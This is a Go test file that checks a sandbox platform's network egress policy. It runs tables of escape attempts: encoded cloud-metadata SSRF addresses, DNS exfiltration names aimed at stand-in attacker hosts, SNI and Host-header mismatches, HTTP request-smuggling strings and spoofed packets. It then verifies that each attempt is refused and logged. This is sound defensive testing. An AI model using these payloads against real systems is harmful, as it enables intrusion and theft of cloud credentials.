package network

import (
	_ "embed"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"testing"

	"agentrun.dev/api/rest"
	"agentrun.dev/internal/client"
)

//go:embed testdata/attempts.py
var attempts string

// attempt is one try of a program in a sandbox to reach what its policy does not allow.
type attempt struct {
	sandbox string // strict, or open
	// call is a function of testdata/attempts.py, and its arguments.
	call []any
	// want is a regular expression of what the program sees of it.
	want string
	// target, rule and reason are of the line that the log has of it; target is a part of
	// the address or name. An empty rule: the log has none, as nothing has asked for a
	// connection.
	target, rule, reason string
}

func try(name string, args ...any) []any { return append([]any{name}, args...) }

const (
	refused = "^ECONNREFUSED$"
	nothing = "^timeout$|^ECONNREFUSED$|^EHOSTUNREACH$|^ENETUNREACH$|^EACCES$|^EPERM$"
	unknown = "^unknown name$"
	// unsent is of packets to which nothing answers but the sandbox's own kernel.
	unsent = "^sent, no answer$|^ENOTSUP$|^EPERM$|^EINVAL$|^EADDRNOTAVAIL$"
)

// addressAttempts are by addresses, in all forms, from a sandbox that may reach the
// public internet.
var addressAttempts = []attempt{
	{"open", try("tcp", "169.254.169.254", 80), refused, "169.254.169.254:80", "closed: metadata", "metadata"},
	{"open", try("tcp", "2852039166", 80), refused, "169.254.169.254:80", "closed: metadata", "metadata"},
	{"open", try("tcp", "0251.0376.0251.0376", 80), refused, "169.254.169.254:80", "closed: metadata", "metadata"},
	{"open", try("tcp", "0xa9fea9fe", 8080), refused, "169.254.169.254:8080", "closed: metadata", "metadata"},
	{"open", try("tcp", "::ffff:169.254.169.254", 8081), refused, "169.254.169.254:8081", "closed: metadata", "metadata"},
	{"open", try("tcp", "64:ff9b::a9fe:a9fe", 80), refused, "64:ff9b::a9fe:a9fe", "closed: metadata", "inside of NAT64"},
	{"open", try("tcp", "2002:a9fe:a9fe::1", 80), refused, "2002:a9fe:a9fe::1", "closed: metadata", "inside of 6to4"},
	{"open", try("tcp", "fd00:ec2::254", 80), refused, "fd00:ec2::254", "closed: metadata", "metadata"},
	{"open", try("tcp", "100.100.100.200", 80), refused, "100.100.100.200", "closed: metadata", "metadata"},
	{"open", try("tcp", "168.63.129.16", 80), refused, "168.63.129.16", "closed: metadata", "Azure"},
	{"open", try("tcp", "192.0.0.192", 80), refused, "192.0.0.192", "closed: metadata", "metadata"},
	{"open", try("tcp", "169.254.170.2", 80), refused, "169.254.170.2", "closed: metadata", "metadata"},
	{"open", try("tcp", "169.254.1.1", 80), refused, "169.254.1.1", "closed: link-local", "link-local"},
	{"open", try("tcp", "10.77.0.1", 80), refused, "10.77.0.1:80", "closed: private", "private"},
	{"open", try("tcp", "::ffff:10.77.0.1", 81), refused, "10.77.0.1:81", "closed: private", "private"},
	{"open", try("tcp", "64:ff9b::a4d:1", 80), refused, "64:ff9b::a4d:1", "closed: private", "inside of NAT64"},
	{"open", try("tcp", "192.168.0.1", 80), refused, "192.168.0.1", "closed: private", "private"},
	{"open", try("tcp", "172.16.0.1", 80), refused, "172.16.0.1", "closed: private", "private"},
	{"open", try("tcp", "100.64.0.1", 80), refused, "100.64.0.1", "closed: private", ""},
	{"open", try("tcp", "fd12::1", 80), refused, "fd12::1", "closed: private", ""},
	{"open", try("tcp", "198.51.100.1", 80), refused, "198.51.100.1", "closed: reserved", ""},
	{"open", try("tcp", "240.0.0.1", 80), refused, "240.0.0.1", "closed: reserved", ""},
	{"open", try("tcp", "25.1.100.2", 7070), refused, "25.1.100.2:7070", "closed: host", "host"},
	{"open", try("tcp", "::ffff:25.1.100.2", 7070), refused, "25.1.100.2:7070", "closed: host", "host"},
	{"open", try("tcp", "2600:db8:1::2", 7070), refused, "2600:db8:1::2", "closed: host", "host"},
	{"open", try("tcp", "64:ff9b::1901:6402", 7070), refused, "64:ff9b::1901:6402", "closed: host", "address of the host"},
	{"open", try("tcp", "127.0.0.1", 7070), refused, "", "", ""}, // the sandbox's own
	{"open", try("tcp", "0.0.0.0", 7070), refused, "", "", ""},
	{"open", try("tcp", "::1", 7070), refused, "", "", ""},
	{"open", try("tcp", "::", 7070), refused, "", "", ""},
	{"open", try("tcp", "10.255.255.1", 80), refused, "10.255.255.1:80", "closed: gateway", "serves DNS and nothing else"},
	{"open", try("tcp", "10.255.255.1", 7070), refused, "10.255.255.1:7070", "closed: gateway", "serves DNS and nothing else"},
	{"open", try("tcp", "fd00:a9e7::1", 22), refused, "fd00:a9e7::1", "closed: gateway", "serves DNS and nothing else"},
	{"open", try("udp", "10.255.255.1", 123), nothing, "10.255.255.1:123", "closed: gateway", ""},
	{"open", try("udp", "169.254.169.254", 123), nothing, "169.254.169.254:123", "closed: metadata", ""},
	{"open", try("udp", "25.1.100.2", 7070), nothing, "25.1.100.2:7070", "closed: host", ""},
	{"open", try("udp", "224.0.0.251", 5353), nothing, "", "", ""},
	{"open", try("udp", "255.255.255.255", 68), nothing, "", "", ""},
	{"strict", try("tcp", "25.1.113.11", 80), refused, "25.1.113.11:80", "egress: deny", "no name is pinned"},
	{"strict", try("tcp", "25.1.113.10", 22), refused, "25.1.113.10:22", "egress: deny", ""},
	{"strict", try("tcp", "2600:db8:5::10", 80), refused, "2600:db8:5::10", "egress: deny", "no name is pinned"},
	{"strict", try("udp", "25.1.113.10", 443), nothing, "25.1.113.10:443", "egress: deny", ""},
	{"strict", try("udp", "25.1.113.11", 123), nothing, "25.1.113.11:123", "egress: deny", ""},
}

// nameAttempts are by names: of the DNS, of TLS and of HTTP.
var nameAttempts = []attempt{
	{"strict", try("resolve", "evil.example.org"), unknown, "evil.example.org", "egress: deny", ""},
	{"strict", try("resolve", "secret-data.attacker.example.net"), unknown, "attacker.example.net", "egress: deny", ""},
	{"strict", try("resolve", "allowed.example.org.attacker.example.net"), unknown, "allowed.example.org.attacker", "egress: deny", ""},
	{"strict", try("resolve", "meta.tricky.example.org"), unknown, "meta.tricky.example.org", "closed", "metadata"},
	{"strict", try("resolve", "private.tricky.example.org"), unknown, "private.tricky.example.org", "closed", "private"},
	{"strict", try("resolve", "loop.tricky.example.org"), unknown, "loop.tricky.example.org", "closed", "loopback"},
	{"strict", try("resolve", "zero.tricky.example.org"), unknown, "zero.tricky.example.org", "closed", "unspecified"},
	{"strict", try("resolve", "host.tricky.example.org"), unknown, "host.tricky.example.org", "closed", "host"},
	{"strict", try("resolve", "gate.tricky.example.org"), unknown, "gate.tricky.example.org", "closed", "gateway"},
	{"strict", try("resolve", "nat64.tricky.example.org"), unknown, "nat64.tricky.example.org", "closed", "inside of NAT64"},
	{"strict", try("resolve", "alias.tricky.example.org"), unknown, "alias.tricky.example.org", "closed", "private"},
	{"open", try("resolve", "evil.example.org"), unknown, "evil.example.org", "evil.example.org", "denies"},
	{"strict", try("dns", "10.255.255.1", "allowed.example.org", 16), "rcode [05], 0 answers", "", "", ""},  // TXT
	{"strict", try("dns", "10.255.255.1", "allowed.example.org", 65), "rcode [05], 0 answers", "", "", ""},  // HTTPS
	{"strict", try("dns", "10.255.255.1", "allowed.example.org", 255), "rcode [05], 0 answers", "", "", ""}, // ANY
	{"strict", try("dns_stream", "10.255.255.1", "evil.example.org", 1), "rcode [35], 0 answers", "evil.example.org", "egress: deny", ""},
	{"strict", try("dns", "25.1.113.53", "evil.example.org", 1), nothing, "25.1.113.53:53", "egress: deny", ""},
	{"strict", try("dns_stream", "25.1.113.53", "evil.example.org", 1), refused, "25.1.113.53:53", "egress: deny", ""},
	{"strict", try("tcp", "25.1.113.53", 853), refused, "25.1.113.53:853", "egress: deny", ""}, // DNS over TLS
	{"strict", try("tls", "25.1.113.53", "dns.example.org"), refused, "25.1.113.53:443", "egress: deny", ""},

	{"strict", try("tls", "allowed.example.org", "evil.example.org"), "ECONNRESET", "evil.example.org", "allowed.example.org:443", "evil.example.org"},
	{"strict", try("tls", "allowed.example.org", "evil2.example.org", 1), "ECONNRESET|EPIPE", "evil2.example.org", "allowed.example.org:443", "evil2.example.org"},
	{"strict", try("tls", "allowed.example.org", "evil3.example.org", 1<<20, 20), "ECONNRESET|EPIPE", "evil3.example.org", "allowed.example.org:443", "evil3.example.org"},
	{"strict", try("tls", "allowed.example.org", nil), "ECONNRESET", "25.1.113.10:443", "allowed.example.org:443", "no server name"},
	{"strict", try("tls", "25.1.113.10", "evil4.example.org"), "ECONNRESET", "evil4.example.org", "allowed.example.org:443", "evil4.example.org"},
	{"strict", try("tcp", "allowed.example.org", 443, "SSH-2.0-tunnel\r\n"), "ECONNRESET", "25.1.113.10:443", "allowed.example.org:443", "not TLS"},
	{"open", try("tls", "25.1.113.10", "evil.example.org"), "ECONNRESET", "evil.example.org", "evil.example.org", "denies"},

	{"strict", try("tcp", "allowed.example.org", 80, "GET / HTTP/1.1\r\nHost: evil5.example.org\r\n\r\n"), "421 Misdirected", "evil5.example.org", "allowed.example.org:80", ""},
	{"strict", try("tcp", "allowed.example.org", 80, "GET / HTTP/1.1\r\nHost: allowed.example.org\r\n\r\nGET / HTTP/1.1\r\nHost: evil6.example.org\r\n\r\n"), "(?s)200 OK.*421 Misdirected", "evil6.example.org", "allowed.example.org:80", ""},
	{"strict", try("tcp", "allowed.example.org", 80, "GET / HTTP/1.1\r\nHost: allowed.example.org\r\nHost: evil7.example.org\r\n\r\n"), "400 Bad Request", "25.1.113.10:80", "allowed.example.org:80", "not a well-formed"},
	{"strict", try("tcp", "allowed.example.org", 80, "GET http://evil8.example.org/ HTTP/1.1\r\nHost: allowed.example.org\r\n\r\n"), "421 Misdirected", "evil8.example.org", "allowed.example.org:80", ""},
	{"strict", try("tcp", "allowed.example.org", 80, "CONNECT 10.77.0.1:80 HTTP/1.1\r\nHost: 10.77.0.1:80\r\n\r\n"), "403 Forbidden", "25.1.113.10:80", "allowed.example.org:80", "CONNECT"},
	{"strict", try("tcp", "allowed.example.org", 80, "GET / HTTP/1.1\r\nHost: allowed.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"), "403 Forbidden", "25.1.113.10:80", "allowed.example.org:80", "upgrade"},
	{"strict", try("tcp", "allowed.example.org", 80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), "40[0-9]|403|ECONNRESET|505", "25.1.113.10:80", "allowed.example.org:80", ""},
	{"strict", try("tcp", "allowed.example.org", 80, "POST / HTTP/1.1\r\nHost: allowed.example.org\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil9.example.org\r\n\r\n"), "421|400", "", "", ""},
	{"strict", try("tcp", "allowed.example.org", 80, "SSH-2.0-tunnel\r\n\r\n"), "400 Bad Request", "25.1.113.10:80", "allowed.example.org:80", "not a well-formed"},
	{"strict", try("tcp", "allowed.example.org", 80, "GET / HTTP/1.0\r\n\r\n"), "421 Misdirected", "25.1.113.10:80", "allowed.example.org:80", "host"},
	{"strict", try("tcp", "allowed.example.org", 80, "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"), "421 Misdirected", "25.1.113.10:80", "allowed.example.org:80", "host"},
	{"strict", try("tcp", "allowed.example.org", 8443), refused, "25.1.113.10:8443", "egress: deny", "no rule is about tcp port 8443"},
}

// packetAttempts are made of packets that a kernel would not send, for addresses that
// the policy allows. gVisor sends no frames that a program has made (ENOTSUP), but IP
// packets.
var packetAttempts = []attempt{
	{"strict", try("ping", "25.1.113.10"), nothing, "", "", ""},
	{"open", try("ping", "169.254.169.254"), nothing, "", "", ""},
	{"strict", try("spoofed", "frame", "25.1.113.99", "25.1.113.70", 9100), unsent, "", "", ""},
	{"strict", try("spoofed", "raw", "25.1.113.99", "25.1.113.70", 9101), unsent, "", "", ""},
	{"strict", try("spoofed", "frame", "10.255.255.1", "25.1.113.70", 9102), unsent, "", "", ""},
	{"strict", try("spoofed", "raw", "10.255.255.1", "25.1.113.70", 9103), unsent, "", "", ""},
	{"strict", try("spoofed", "frame", "127.0.0.1", "25.1.113.70", 9104), unsent, "", "", ""},
	{"strict", try("spoofed_udp", "raw", "10.255.255.3", "25.1.113.70", 9105), unsent, "", "", ""},
	{"strict", try("fragments", "frame", "25.1.113.70", 9106), unsent, "", "", ""},
	{"strict", try("fragments", "raw", "25.1.113.70", 9107), unsent, "", "", ""},
	{"strict", try("routed", "frame", "10.77.0.1", "25.1.113.70", 9108), unsent, "", "", ""},
	{"strict", try("routed", "raw", "10.77.0.1", "25.1.113.70", 9109), unsent, "", "", ""},
	{"strict", try("tunnelled", "frame", "25.1.113.70", 9110), unsent, "", "", ""},
	{"strict", try("tunnelled", "raw", "25.1.113.70", 9111), unsent, "", "", ""},
	{"strict", try("foreign", "25.1.113.70", 9112), unsent, "", "", ""},
	{"strict", try("tagged", "25.1.113.70", 9113), unsent, "", "", ""},
}

// canaries are addresses of servers that no attempt may reach.
func canaries() []string {
	list := []string{
		"10.77.0.1:80", "10.77.0.1:81", "25.1.113.11:80", "25.1.113.10:22", "25.1.113.10:8443", "[2600:db8:5::10]:80", "25.1.113.53:853", "25.1.113.53:443",
		"169.254.169.254:80", "169.254.169.254:8080", "169.254.169.254:8081", "[64:ff9b::a9fe:a9fe]:80", "[64:ff9b::a4d:1]:80", "[64:ff9b::1901:6402]:7070", "[2002:a9fe:a9fe::1]:80",
		"[fd00:ec2::254]:80", "100.100.100.200:80", "168.63.129.16:80", "192.0.0.192:80", "169.254.170.2:80", "169.254.1.1:80", "192.168.0.1:80", "172.16.0.1:80",
		"100.64.0.1:80", "[fd12::1]:80", "198.51.100.1:80",
	}
	for port := 9100; port <= 9113; port++ {
		list = append(list, fmt.Sprintf("25.1.113.70:%d", port))
	}
	return list
}

// servers of the attempts: those that may be reached, and canaries.
func (s *site) serveCanaries(t *testing.T) (sung func() []string) {
	t.Helper()
	var mu sync.Mutex
	var list []string
	sing := func(what string) {
		mu.Lock()
		defer mu.Unlock()
		list = append(list, what)
	}
	s.Own(t, "169.254.0.0/16", "64:ff9b::/96", "2002:a9fe:a9fe::/48", "fd00:ec2::/32", "100.64.0.0/10", "168.63.129.16/32", "192.0.0.192/32",
		"192.168.0.0/24", "172.16.0.0/24", "fd12::/64", "198.51.100.0/24")
	for _, address := range canaries() {
		l := s.Listen(t, address)
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				sing("TCP " + c.LocalAddr().String())
				_ = c.Close()
			}
		}()
	}
	for _, address := range []string{"25.1.113.10:443", "25.1.113.11:123", "169.254.169.254:123", "25.1.113.70:9105"} {
		c := s.ListenPacket(t, address)
		go func() {
			b := make([]byte, 2048)
			for {
				_, from, err := c.ReadFrom(b)
				if err != nil {
					return
				}
				sing(fmt.Sprintf("UDP %s from %s", address, from))
			}
		}()
	}
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		return list
	}
}

// wholeLog is everything in the log of a sandbox's network.
func (s *site) wholeLog(t *testing.T, sandbox string) (out []rest.NetworkLogEntry) {
	t.Helper()
	from := int64(1)
	for {
		page, err := s.client.NetworkLog(t.Context(), sandbox, client.NetworkLogRequest{From: from})
		if err != nil {
			t.Fatal(err)
		}
		if page.Lost > 0 {
			t.Fatalf("%d entries of the log are lost", page.Lost)
		}
		if len(page.Items) == 0 {
			return out
		}
		out, from = append(out, page.Items...), page.Next
	}
}

// TestEscapes: programs in real sandboxes try to get out, each in another way. They see
// a refusal, the log says by which rule and why, and no server sees anything.
func TestEscapes(t *testing.T) {
	s := newSite(t, "--listen", "0.0.0.0:7070")
	s.importImage(t, "demo:1", "python.sh")
	sung := s.serveCanaries(t)
	for name, address := range map[string]string{
		"allowed.example.org": "25.1.113.10", "evil.example.org": "25.1.113.10", "udp.example.org": "25.1.113.70",
		"meta.tricky.example.org": "169.254.169.254", "private.tricky.example.org": "10.77.0.1", "loop.tricky.example.org": "127.0.0.1",
		"zero.tricky.example.org": "0.0.0.0", "host.tricky.example.org": "25.1.100.2", "gate.tricky.example.org": "10.255.255.1",
		"nat64.tricky.example.org": "64:ff9b::a9fe:a9fe", "inner.tricky.example.org": "10.77.0.1",
	} {
		s.Name(name, 600, address)
	}
	s.Alias("alias.tricky.example.org", "inner.tricky.example.org", 600)
	var hosts sync.Map
	witness := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hosts.Store(r.Host, true)
		_, _ = io.WriteString(w, "hello")
	})
	s.ServeHTTP(t, "25.1.113.10:80", witness)
	s.ServeHTTPS(t, "25.1.113.10:443", witness, "allowed.example.org", "evil.example.org")
	s.pool(t, "strict", 1, `networkPolicy: {egress: deny, allow: ["allowed.example.org:80", "allowed.example.org:443", "*.tricky.example.org", "25.1.113.70"]}`)
	s.pool(t, "open", 1, "networkPolicy: {egress: allow, deny: [evil.example.org]}")
	s.claim(t, "strict", "strict")
	s.claim(t, "open", "open")
	// That they are connected at all, and that the packets which are made by hand are
	// good ones: only what is wrong with the others keeps them.
	s.prints(t, "strict", "hello", "python3", "-c", get, "https://allowed.example.org/")
	s.prints(t, "open", "hello", "python3", "-c", get, "http://25.1.113.10/")
	control := s.attempt(t, "strict", [][]any{try("plain", "raw", "25.1.113.70", 9999), try("plain", "frame", "25.1.113.70", 9999), try("ping", "10.255.255.1", 20)})
	for i, want := range []string{"answered by 25.1.113.70", "answered by 25.1.113.70|^ENOTSUP$", "^answered$"} {
		if !regexp.MustCompile(want).MatchString(control[i]) {
			t.Errorf("a packet that is allowed: %s; want %s", control[i], want)
		}
	}

	total := 0
	for group, list := range map[string][]attempt{"addresses": addressAttempts, "names": nameAttempts, "packets": packetAttempts} {
		total += len(list)
		t.Run(group, func(t *testing.T) { s.tryAll(t, list) })
	}
	if total < 80 {
		t.Errorf("%d attempts", total)
	}
	t.Logf("%d attempts", total)
	// They are still connected. What was sent before has been dealt with then.
	s.prints(t, "strict", "hello", "python3", "-c", get, "https://allowed.example.org/")
	s.prints(t, "open", "hello", "python3", "-c", get, "http://25.1.113.10/")
	if list := sung(); len(list) > 0 {
		t.Errorf("servers were reached: %q", list)
	}
	hosts.Range(func(host, _ any) bool {
		if h := host.(string); h != "allowed.example.org" && h != "25.1.113.10" {
			t.Errorf("a server saw a request for %s", h)
		}
		return true
	})
}

// attempt runs attempts in a sandbox.
func (s *site) attempt(t *testing.T, sandbox string, calls [][]any) (results []string) {
	t.Helper()
	in, err := json.Marshal(calls)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.client.Run(t.Context(), sandbox, rest.ExecRequest{Argv: []string{"python3", "-c", attempts}, Stdin: string(in)})
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(r.Stdout), &results); err != nil || len(results) != len(calls) {
		t.Fatalf("the attempts printed %q, %s", r.Stdout, r.Stderr)
	}
	return results
}

// tryAll makes attempts, and looks for each in the log.
func (s *site) tryAll(t *testing.T, list []attempt) {
	for _, sandbox := range []string{"strict", "open"} {
		var mine []attempt
		var calls [][]any
		for _, a := range list {
			if a.sandbox == sandbox {
				mine, calls = append(mine, a), append(calls, a.call)
			}
		}
		if len(mine) == 0 {
			continue
		}
		results, log := s.attempt(t, sandbox, calls), s.wholeLog(t, sandbox)
		for i, a := range mine {
			title := fmt.Sprintf("%s: %.90q", a.sandbox, fmt.Sprint(a.call...))
			if !regexp.MustCompile(a.want).MatchString(results[i]) {
				t.Errorf("%s: %.300q; want %s", title, results[i], a.want)
			}
			if a.target == "" {
				continue
			}
			var seen []string
			found := false
			for _, e := range log {
				if !strings.Contains(e.Address, strings.Trim(a.target, "[]")) && !strings.Contains(e.Name, a.target) {
					continue
				}
				seen = append(seen, fmt.Sprintf("%s %s %s: %s, %s: %s", e.Protocol, e.Name, e.Address, e.Outcome, e.Rule, e.Reason))
				found = found || e.Outcome == "refused" && e.Rule == a.rule && strings.Contains(e.Reason, a.reason)
			}
			if !found {
				t.Errorf("%s: the log does not say rule %q and reason %q about %s, but\n%s", title, a.rule, a.reason, a.target, strings.Join(seen, "\n"))
			}
		}
	}
}
